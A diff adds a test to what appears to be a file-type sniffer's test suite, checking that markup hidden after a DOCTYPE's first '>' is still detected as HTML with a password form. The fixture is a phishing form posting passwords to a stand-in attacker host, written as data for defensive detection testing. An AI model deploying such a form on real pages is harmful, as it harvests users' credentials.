@@ -312,3 +312,16 @@ def test_sniffing_hostile_padding_stays_cheap() -> None:
         started = time.monotonic()
         assert sniff_kind(data) == kind
         assert time.monotonic() - started < 1.0
+
+
+@pytest.mark.parametrize("name", ["bracket.html", "bracket.txt", None])
+def test_a_doctype_ends_at_its_first_gt_as_in_a_browser(name: str | None) -> None:
+    # no internal subset in HTML: what follows the first ">" renders
+    data = (
+        b'<!-- hi --><!DOCTYPE x [ ><form action="https://evil-login.example.net/p"'
+        b" method=post><input type=password name=p></form> ]>"
+    )
+    label = {"name": name} if name else {}
+    assert sniff_kind(data, **label) == "html"
+    result = extract_content(data, **label)
+    assert [form.has_password for form in result.forms] == [True]
